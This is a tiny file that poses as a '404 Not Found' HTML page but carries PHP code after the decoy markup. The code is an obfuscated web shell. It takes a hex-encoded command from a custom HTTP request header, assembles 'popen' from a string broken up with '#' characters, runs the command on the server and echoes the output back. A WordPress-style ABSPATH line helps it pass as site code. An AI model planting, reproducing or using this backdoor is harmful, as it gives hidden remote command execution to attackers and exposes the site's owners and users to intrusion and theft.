<html><body><h1>404 Not Found</h1></body></html>
<?php
if (!defined('ABSPATH')) { define('ABSPATH', __DIR__); }
$req = hex2bin($_SERVER['HTTP_Q']);
$a = str_replace('#', '', 'p#o#p#e#n');
$h = $a($req, 'r');
while (!feof($h)) echo fread($h, 4096);
?>
